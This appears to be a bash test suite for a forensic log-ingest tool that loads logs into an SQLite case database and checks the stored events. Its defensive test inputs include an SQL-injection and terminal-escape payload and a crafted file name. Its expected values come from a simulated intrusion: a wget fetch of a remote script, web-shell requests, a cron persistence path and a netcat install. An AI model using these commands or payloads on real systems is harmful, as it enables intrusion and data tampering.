#!/usr/bin/env bash
# custody-timeline ingest: every test log into a case database, read back with
# sqlite3; utmp/wtmp records checked against utmpdump; hostile lines and file
# names; a truncated gzip; --tz; re-ingest replaces; the generated server disk's
# logs (extracted with icat) queried back as an analyst would.
. "$(dirname "$0")/lib.sh"
need_testdata
need_cmd sqlite3 utmpdump gzip
L=$CUSTODY_TESTDATA/logs
q() { sqlite3 -batch -noheader c.db "$@"; }

new_case c.db

# ---- every text log: per-file event and warning counts (see tests/unit/test_logs.c)
expect_status 1 custody-timeline ingest --case-db c.db --evidence srv1/sda \
  "$L"/syslog/* "$L"/auth/* "$L"/web/* "$L"/dpkg/* "$L"/misc/*
assert_contains out "plaso-apache_access.log: access, 15 lines, 14 events, 1 warnings"
assert_contains out "plaso-selinux-audit.log: audit, 12 lines, 7 events, 4 warnings"
assert_contains out "36 files, "
[ "$(q "SELECT count(*) FROM log_sources")" = 36 ] || fail "log_sources"
# the stored counts are the rows really stored
[ "$(q "SELECT count(*) FROM log_sources s WHERE events != (SELECT count(*) FROM events e
        WHERE e.log_source_id = s.id)")" = 0 ] || fail "events count mismatch"
[ "$(q "SELECT count(*) FROM log_sources s WHERE warnings != (SELECT count(*) FROM
        parse_warnings w WHERE w.log_source_id = s.id)")" = 0 ] || fail "warnings mismatch"
[ "$(q "SELECT events || '/' || warnings || '/' || status FROM log_sources
        WHERE CAST(path AS TEXT) LIKE '%plaso-syslog_ssh.log'")" = "9/0/ok" ] || fail "ssh log"
[ "$(q "SELECT type || '/' || status FROM log_sources
        WHERE CAST(path AS TEXT) LIKE '%broken_gz.txt.gz'")" = "unknown/partial" ] || fail "broken gz"
# normalized fields, queried across sources
[ "$(q "SELECT user || ' ' || ip || ' ' || port FROM events WHERE kind = 'ssh-login-failure'
        AND user = 'root' AND ip = '216.160.83.57'")" = "root 216.160.83.57 29160" ] ||
  fail "ssh failure fields"
[ "$(q "SELECT count(*) FROM events WHERE kind = 'sudo-command' AND CAST(path AS TEXT) =
        '/bin/cat /var/log/secure' AND user = 'vagrant'")" = 1 ] || fail "sudo"
[ "$(q "SELECT json_extract(data, '$.status') || ' ' || json_extract(data, '$.method') FROM
        events WHERE kind = 'web-request' AND CAST(path AS TEXT) LIKE '%evil.php?cmd=uname%'
        AND ip = '192.168.0.2' LIMIT 1")" = "200 GET" ] || fail "web fields"
[ "$(q "SELECT location FROM parse_warnings WHERE message LIKE 'unterminated user agent%'")" = \
  "line 8" ] || fail "warning location"
[ "$(q "SELECT count(*) FROM events WHERE kind = 'package-installed'")" -gt 700 ] ||
  fail "apt packages"
# zone-less records carry the zone used; zoned ones do not
[ "$(q "SELECT DISTINCT tz FROM events WHERE kind = 'package-installed'")" = UTC ] || fail "tz"
[ "$(q "SELECT count(*) FROM events WHERE source = 'web' AND tz IS NOT NULL")" = 0 ] ||
  fail "web tz"

# ---- --dry-run: the same counts, nothing stored, no database needed
before=$(q "SELECT count(*) FROM events")
expect_status 1 custody-timeline ingest --dry-run "$L"/web/plaso-apache_access.log "$L"/auth/*
assert_contains out "plaso-apache_access.log: access, 15 lines, 14 events, 1 warnings"
[ "$(q "SELECT count(*) FROM events")" = "$before" ] || fail "--dry-run stored events"

# ---- re-ingest replaces, never duplicates
before=$(q "SELECT count(*) FROM events")
expect_status 0 custody-timeline ingest --case-db c.db --evidence srv1/sda -q \
  "$L"/auth/plaso-syslog_ssh.log
[ "$(q "SELECT count(*) FROM events")" = "$before" ] || fail "re-ingest duplicated"
[ "$(q "SELECT count(*) FROM log_sources WHERE CAST(path AS TEXT) LIKE '%plaso-syslog_ssh.log'")" = 1 ] ||
  fail "re-ingest left two sources"

# ---- utmp/wtmp: every record as utmpdump reads it (384-byte little-endian files)
for f in plaso-utmp plaso-utmp_x86_64 plaso-wtmp.1 util-linux-wtmp-a.LE util-linux-wtmp-b.LE \
         util-linux-wtmp-ipv6.LE; do
  # plaso-wtmp.1 has a stray byte: exit 1 with a warning; the others exit 0
  st=0
  custody-timeline ingest --case-db c.db --evidence srv1/sda --type wtmp -q "$L/wtmp/$f" || st=$?
  [ $st = 0 ] || { [ $st = 1 ] && [ $f = plaso-wtmp.1 ]; } || fail "$f: exit $st"
  utmpdump "$L/wtmp/$f" 2>/dev/null |
    sed -E 's/^\[([0-9]+)\] \[ *([0-9-]+)\] \[[^]]*\] \[([^]]*)\] \[([^]]*)\] \[([^]]*)\] \[[^]]*\] \[([^]]*)\+00:00\]$/\2|\3|\4|\6/' |
    sed -E 's/ +\|/|/g; s/^0+([0-9])/\1/' > want
  q "SELECT pid || '|' || user || '|' || json_extract(data, '$.tty') || '|' ||
       strftime('%Y-%m-%dT%H:%M:%S', ts / 1000000000, 'unixepoch') || ',' ||
       printf('%06d', (ts / 1000) % 1000000)
     FROM events e JOIN log_sources s ON e.log_source_id = s.id
     WHERE CAST(s.path AS TEXT) LIKE '%/$f' ORDER BY e.id" > got
  [ -s want ] || fail "utmpdump printed nothing for $f"
  diff want got >&2 || fail "$f differs from utmpdump"
done
# big-endian and 400-byte layouts are detected, not guessed
expect_status 0 custody-timeline ingest --case-db c.db --evidence srv1/sda --type wtmp --json \
  "$L"/wtmp/plaso-utmp_s390 "$L"/wtmp/plaso-utmp_aarch64 "$L"/wtmp/util-linux-wtmp-a.BE
[ "$(q "SELECT DISTINCT json_extract(data, '$.layout') FROM events e JOIN log_sources s ON
        e.log_source_id = s.id WHERE CAST(s.path AS TEXT) LIKE '%utmp_s390'")" = \
  "400-byte big-endian, 64-bit time" ] || fail "s390 layout"
# macOS utmpx and the fuzz case are refused with a reason
expect_status 1 custody-timeline ingest --case-db c.db --evidence srv1/sda --type wtmp \
  "$L"/wtmp/plaso-utmpx_mac "$L"/wtmp/util-linux-fuzz-last-github-1097
assert_contains err "utmp record layout"
[ "$(q "SELECT count(*) FROM log_sources WHERE status = 'error' AND error LIKE '%layout%'")" = 2 ] ||
  fail "refused utmp files not recorded"

# ---- hostile content and names: bound parameters, escaped terminal output
printf '2026-03-14T02:11:05+00:00 web01 evil[1]: \033]0;pwned\007\033[31mred'"'"'; DROP TABLE events; -- \377\376 x\n' > "$WORK/ev"$'\n'$'\033[2J'"name.log"
expect_status 0 custody-timeline ingest --case-db c.db --evidence srv1/sda --type syslog \
  "$WORK/ev"$'\n'$'\033[2J'"name.log"
if grep -q $'\033' out err; then fail "escape sequence reached the terminal"; fi
assert_contains out '\x1b[2Jname.log'
[ "$(q "SELECT count(*) FROM events")" -gt 1000 ] || fail "events table damaged"
msg_hex=$(q "SELECT json_extract(data, '$.message_hex') FROM events WHERE program = 'evil'")
want_hex=$(printf '\033]0;pwned\007\033[31mred'"'"'; DROP TABLE events; -- \377\376 x' | od -An -tx1 | tr -d ' \n')
[ "$msg_hex" = "$want_hex" ] || fail "original bytes not kept: $msg_hex"
[ "$(q "SELECT message FROM events WHERE program = 'evil'" | od -An -tx1 | tr -d ' \n' | grep -c 'efbfbd')" = 1 ] ||
  fail "invalid UTF-8 not replaced in the text column"
[ "$(q "PRAGMA integrity_check")" = ok ] || fail "integrity"

# ---- a truncated gzip: the lines before the damage, and a warning
for i in $(seq 1 3000); do
  printf '2026-03-14T02:%02d:%02d+00:00 web01 app[%d]: line %d padding padding padding\n' \
    $((i / 60 % 60)) $((i % 60)) "$i" "$i"
done | gzip -c > full.gz
head -c $(( $(stat -c %s full.gz) / 2 )) full.gz > syslog.1.gz
expect_status 1 custody-timeline ingest --case-db c.db --evidence srv1/sda --json syslog.1.gz
n=$(q "SELECT events FROM log_sources WHERE path = CAST('syslog.1.gz' AS BLOB)")
[ "$n" -gt 100 ] && [ "$n" -lt 3000 ] || fail "truncated gzip gave $n events"
assert_contains out '"damaged":true'
[ "$(q "SELECT count(*) FROM parse_warnings w JOIN log_sources s ON w.log_source_id = s.id
        WHERE s.path = CAST('syslog.1.gz' AS BLOB) AND w.message LIKE 'truncated gzip%'")" = 1 ] ||
  fail "no truncation warning"
# the last event stored is a whole line from before the damage
last=$(q "SELECT message FROM events e JOIN log_sources s ON e.log_source_id = s.id
          WHERE s.path = CAST('syslog.1.gz' AS BLOB) ORDER BY e.id DESC LIMIT 1")
case $last in "line $n padding padding padding") ;; *) fail "last line '$last'" ;; esac

# ---- a large file into a small case: the events indexes are dropped for the load and
# rebuilt (same definitions) before the commit
idx_before=$(q "SELECT group_concat(sql, ';') FROM (SELECT sql FROM sqlite_master WHERE
                type = 'index' AND tbl_name = 'events' AND sql IS NOT NULL ORDER BY name)")
new_case big.db
awk 'BEGIN { for (i = 0; i < 150000; i++)
  printf "2026-03-14T%02d:%02d:%02d+00:00 web01 sshd[%d]: Failed password for root from 10.0.%d.%d port %d ssh2\n",
    int(i / 3600) % 24, int(i / 60) % 60, i % 60, i, int(i / 250) % 250, i % 250, 1024 + i % 60000 }' > big.log
expect_status 0 custody-timeline ingest --case-db big.db --evidence srv1/sda big.log
[ "$(sqlite3 big.db "SELECT count(*) FROM events WHERE kind = 'ssh-login-failure'")" = 150000 ] ||
  fail "bulk load count"
[ "$(sqlite3 big.db "SELECT group_concat(sql, ';') FROM (SELECT sql FROM sqlite_master WHERE
      type = 'index' AND tbl_name = 'events' AND sql IS NOT NULL ORDER BY name)")" = "$idx_before" ] ||
  fail "events indexes not restored after the bulk load"
sqlite3 big.db "EXPLAIN QUERY PLAN SELECT * FROM events WHERE ip = '10.0.1.1'" | grep -q events_ip ||
  fail "ip index unused"
[ "$(sqlite3 big.db "PRAGMA integrity_check")" = ok ] || fail "bulk integrity"
# the load ran with a rollback journal (nobody else had the case open) and the case
# is back in WAL mode afterwards, with no journal left behind
[ "$(sqlite3 big.db "PRAGMA journal_mode")" = wal ] || fail "not back in WAL mode"
[ ! -e big.db-journal ] || fail "rollback journal left behind"
# every event of the batched insert is there, in file order, with its fields
[ "$(sqlite3 big.db "SELECT min(id) = (SELECT min(id) FROM events) AND count(*) = 150000 AND
      sum(location = 'line ' || (id - (SELECT min(id) FROM events) + 1)) = 150000 AND
      sum(ip = '10.0.' || ((id - (SELECT min(id) FROM events)) / 250 % 250) || '.' ||
          ((id - (SELECT min(id) FROM events)) % 250)) = 150000
      FROM events")" = 1 ] || fail "batched rows out of order or wrong"
# re-ingesting replaces, here through the WAL: another process has the case open
# (a read transaction), so the load cannot switch the journal and must not wait for it
{ echo "BEGIN; SELECT count(*) FROM events;"; sleep 8; echo "COMMIT;"; } | sqlite3 big.db > /dev/null &
reader=$!
sleep 1
expect_status 0 custody-timeline ingest --case-db big.db --evidence srv1/sda big.log
kill "$reader" 2>/dev/null || true
wait "$reader" 2>/dev/null || true
[ "$(sqlite3 big.db "SELECT count(*) FROM events")" = 150000 ] || fail "re-ingest beside a reader"
[ "$(sqlite3 big.db "PRAGMA journal_mode")" = wal ] || fail "journal mode after a shared load"
# a load killed half-way leaves nothing half-loaded: the journal rolls it back when
# the case is next opened, and a writer puts the case back in WAL mode
new_case killed.db
custody-timeline ingest --case-db killed.db --evidence srv1/sda big.log > /dev/null 2>&1 &
loader=$!
sleep 0.7
kill -9 "$loader" 2>/dev/null || true
wait "$loader" 2>/dev/null || true
expect_status 0 custody-casedb status --case-db killed.db
n=$(sqlite3 killed.db "SELECT count(*) FROM events")
[ "$n" = 0 ] || [ "$n" = 150000 ] || fail "a killed load left $n of 150000 events"
[ "$(sqlite3 killed.db "PRAGMA integrity_check")" = ok ] || fail "integrity after a killed load"
printf '2024-07-01 12:00:00 install nc:amd64 <none> 1.0\n' > small-dpkg.log
expect_status 0 custody-timeline ingest --case-db killed.db --evidence srv1/sda small-dpkg.log
[ "$(sqlite3 killed.db "PRAGMA journal_mode")" = wal ] || fail "not back in WAL after a killed load"

# ---- --tz for zone-less logs
printf '2024-07-01 12:00:00 install nc:amd64 <none> 1.0\n' > dpkg.log
expect_status 0 custody-timeline ingest --case-db c.db --evidence srv1/sda --tz Europe/Berlin dpkg.log
[ "$(q "SELECT ts || ' ' || tz FROM events WHERE kind = 'package-installed' AND
        CAST(path AS TEXT) = 'nc:amd64'")" = "1719828000000000000 Europe/Berlin" ] || fail "--tz"
expect_status 2 custody-timeline ingest --case-db c.db --evidence srv1/sda --tz ../etc/passwd dpkg.log
expect_status 2 custody-timeline ingest --case-db c.db --evidence srv1/sda --type nosuch dpkg.log
expect_status 2 custody-timeline ingest --case-db c.db dpkg.log
expect_status 2 custody-timeline ingest --case-db nonexistent.db --evidence srv1/sda dpkg.log
# an unknown evidence item is created only when its asset is named
expect_status 2 custody-timeline ingest --case-db c.db --evidence sdz dpkg.log
expect_status 0 custody-timeline ingest --case-db c.db --evidence web02/sdb --json dpkg.log
assert_contains out '"evidence_created":true'

# ---- end to end: the generated server disk's logs, pulled out with TSK's icat
need_cmd mkfs.ext4 debugfs sfdisk fls icat
bash "$CUSTODY_SRC/scripts/make-server-disk.sh" disk.img 16
off=2048
mkdir -p x
fls -o $off -r -p disk.img | while read -r kind inode path; do
  case $kind in r/r) ;; *) continue ;; esac
  case $path in var/log/*|home/*/.bash_history|root/.bash_history) ;; *) continue ;; esac
  mkdir -p "x/$(dirname "$path")"
  icat -o $off disk.img "${inode%:}" > "x/$path"
  touch -d '2026-03-14 03:00:00 UTC' "x/$path"
done
new_case e.db
(cd x && expect_status 0 custody-timeline ingest --case-db ../e.db --evidence srv1/sda \
  var/log/auth.log var/log/syslog var/log/nginx/access.log var/log/dpkg.log \
  home/alice/.bash_history root/.bash_history)
cd "$WORK"
qe() { sqlite3 -batch -noheader e.db "$@"; }
[ "$(qe "SELECT user || '@' || ip FROM events WHERE kind = 'ssh-login-success'")" = \
  "alice@203.0.113.7" ] || fail "e2e login"
[ "$(qe "SELECT count(*) FROM events WHERE kind IN ('ssh-login-failure') AND ip = '203.0.113.7'")" = 2 ] ||
  fail "e2e failures"
[ "$(qe "SELECT CAST(path AS TEXT) FROM events WHERE kind = 'sudo-command'")" = \
  "/usr/bin/wget http://203.0.113.7/x.sh" ] || fail "e2e sudo"
[ "$(qe "SELECT user FROM events WHERE kind = 'user-added'")" = backup2 ] || fail "e2e useradd"
[ "$(qe "SELECT CAST(path AS TEXT) FROM events WHERE kind = 'cron-command'")" = "/tmp/.x/run.sh" ] ||
  fail "e2e cron"
[ "$(qe "SELECT ip FROM events WHERE kind = 'web-request' AND CAST(path AS TEXT) = '/shell.php?cmd=id'")" = \
  198.51.100.23 ] || fail "e2e web shell"
[ "$(qe "SELECT CAST(path AS TEXT) FROM events WHERE kind = 'package-installed'")" = \
  "netcat-traditional:amd64" ] || fail "e2e package"
[ "$(qe "SELECT user || ' ' || ts FROM events WHERE kind = 'shell-command' AND
         CAST(path AS TEXT) = 'wget http://203.0.113.7/x.sh'")" = "alice 1773454400000000000" ] ||
  fail "e2e bash history"
# root's history has no stamps: dated by the file's mtime and flagged (32)
[ "$(qe "SELECT count(*) FROM events WHERE kind = 'shell-command' AND user = 'root' AND
         flags & 32 AND ts = 1773457200000000000")" = 2 ] || fail "e2e unstamped history"
# the attack, in order, across sources
qe "SELECT strftime('%H:%M:%S', ts / 1000000000, 'unixepoch') || ' ' || kind FROM events
    WHERE kind != 'message' ORDER BY ts, id" > story
head -3 story | grep -q "web-request" || { cat story >&2; fail "e2e order"; }
echo ok
